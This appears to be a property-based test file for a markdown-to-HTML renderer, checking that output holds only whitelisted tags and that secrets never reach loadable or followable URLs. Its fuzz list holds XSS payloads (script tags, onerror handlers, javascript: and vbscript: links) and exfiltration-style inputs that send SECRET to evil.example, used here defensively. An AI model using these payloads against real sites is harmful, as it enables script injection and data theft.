import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../../src/adapters/web/markdown.ts'
import { runs } from '../../support/runs.ts'

const none = (): boolean => false
const all = (): boolean => true

/** Every tag of a piece of HTML, as written. Text holds no bare `<`, so nothing hides from this. */
const tagsIn = (html: string): string[] => html.match(/<[^>]*>/g) ?? []

const harmless =
  /^<\/?(?:p|br|strong|em|del|code|blockquote|ul|ol|li|h[3-6]|hr|thead|tbody|tr|table)>$|^<ol start="\d+">$|^<t[hd](?: align="(?:left|right|center)")?>$|^<\/(?:t[hd]|pre|div|a|span)>$|^<pre tabindex="0"(?: data-language="[\w+#.-]{1,30}")?>$|^<div class="table" tabindex="0">$|^<span class="defanged">$|^<a href="(?:https?:\/\/|mailto:)[^"<>]*" target="_blank" rel="noopener noreferrer nofollow">$/

const attacks = fc.constantFrom(
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>)',
  '![x](https://evil.example/?s=SECRET)',
  '[x](https://evil.example/SECRET "a\\" onclick=\\"b")',
  '<https://evil.example/SECRET>',
  'https://evil.example/?q=SECRET',
  '[x][y]\n\n[y]: https://evil.example/SECRET',
  '`<b>`',
  '```"><script>\nx\n```',
  '| a | b |\n|--|--|\n| <i> | [x](vbscript:x) |',
  '<!channel>',
  '@everyone',
  '<a href="//evil.example">',
  '&lt;b&gt;',
  '&#60;script&#62;',
  '[x](//evil.example/SECRET)',
  '[x](\u0001javascript:alert(1))',
  'mailto:a@b.example?body=SECRET',
  '[m](mailto:a@b.example?body=SECRET)',
  '\n',
  '\n\n',
  '- ',
  '> ',
  '# ',
  '**',
  '*',
  '_',
  '~~',
  '\\',
)
const text = fc.array(fc.oneof(attacks, fc.string({ maxLength: 12 })), { maxLength: 12 }).map((parts) => parts.join(''))

describe('renderMarkdown', () => {
  it('makes nothing but harmless tags of any text (S1)', () => {
    fc.assert(
      fc.property(text, fc.boolean(), (given, links) => {
        for (const tag of tagsIn(renderMarkdown(given, links ? all : none))) expect(tag).toMatch(harmless)
      }),
      { numRuns: Math.max(3_000, runs()) },
    )
  })

  it('puts no secret into an address that somebody could follow or a browser could load (S2)', () => {
    fc.assert(
      fc.property(text, (given) => {
        const html = renderMarkdown(given, none)
        for (const tag of tagsIn(html)) expect(tag).not.toMatch(/SECRET|src=/)
      }),
      { numRuns: Math.max(3_000, runs()) },
    )
  })

  it('makes links of images, and loads none (S2)', () => {
    const html = renderMarkdown('![a chart](https://known.example/chart.png)', (host) => host === 'known.example')
    expect(html).toContain(
      '<a href="https://known.example/chart.png" target="_blank" rel="noopener noreferrer nofollow">a chart</a>',
    )
    expect(html).not.toContain('<img')
  })

  it('shows an address of an unknown host so that it cannot be followed (S2)', () => {
    const html = renderMarkdown('See [the page](https://evil.example/a?b=c).', none)
    expect(html).toContain('the page <span class="defanged">evil[.]example/a</span>')
  })

  it('shows raw HTML as text', () => {
    expect(renderMarkdown('<b>bold?</b>', none)).toContain('&lt;b&gt;bold?&lt;/b&gt;')
  })

  it('renders tables, code with its language, lists and headings below those of the page', () => {
    const html = renderMarkdown('# One\n\n| a |\n|--:|\n| 1 |\n\n```ts\nx < 1\n```\n\n- [x] done', none)
    expect(html).toContain('<h3>One</h3>')
    expect(html).toContain('<td align="right">1</td>')
    expect(html).toContain('<pre tabindex="0" data-language="ts"><code>x &lt; 1</code></pre>')
    expect(html).toContain('☑ done')
  })
})
